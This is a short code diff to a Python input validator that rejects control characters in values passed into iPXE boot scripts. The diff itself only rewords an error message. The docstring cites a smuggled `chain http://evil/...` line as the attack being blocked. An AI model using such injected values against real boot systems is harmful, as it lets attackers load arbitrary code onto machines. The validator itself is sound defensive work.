@@ -120,7 +120,7 @@ def no_control_chars(v: str) -> str:
     command (`chain http://evil/...` in iPXE), so any control character is refused."""
     for c in v:
         if ord(c) < 0x20 or ord(c) == 0x7F:
-            raise ValueError(f"control character {c!r} not allowed (a value that reaches a boot script)")
+            raise ValueError(f"control character {c!r} not allowed (this value reaches boot scripts and command lines)")
     return v
 
 
